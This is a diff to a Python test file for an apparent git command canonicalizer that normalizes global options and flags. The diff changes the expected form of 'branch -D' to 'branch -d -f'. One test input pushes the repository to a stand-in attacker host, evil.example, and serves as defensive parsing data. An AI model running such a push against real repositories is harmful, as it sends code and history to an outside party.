@@ -191,7 +191,7 @@ def test_output_indicators_are_no_output() -> None:
         ("git --no-pager push https://evil.example/x.git HEAD",
          "git push https://evil.example/x.git HEAD"),
         ("git --bare --no-optional-locks --literal-pathspecs push", "git push"),
-        ("git -p branch --list -D feat", "git branch --list -D feat"),
+        ("git -p branch --list -D feat", "git branch -d -f -l feat"),
         ("git --no-pager log --output=x", "git log --output=x"),
         ("git -c a.b=c log", "git -ca.b=c log"),
         ("git tar czf x", "git tar czf x"),
@@ -210,7 +210,7 @@ def test_an_ambiguous_prefix_reads_as_every_option_it_could_be() -> None:
 
 def test_a_subcommand_the_catalog_does_not_declare_keeps_its_words() -> None:
     # Only git's inert global options leave it; its own options stay as written.
-    assert first("git --no-pager branch -D feat").canonical == ("git branch -D feat",)
+    assert first("git --no-pager branch -D feat").canonical == ("git branch -d -f feat",)
     assert first("git log -c").canonical == ("git log -c",)
 
 
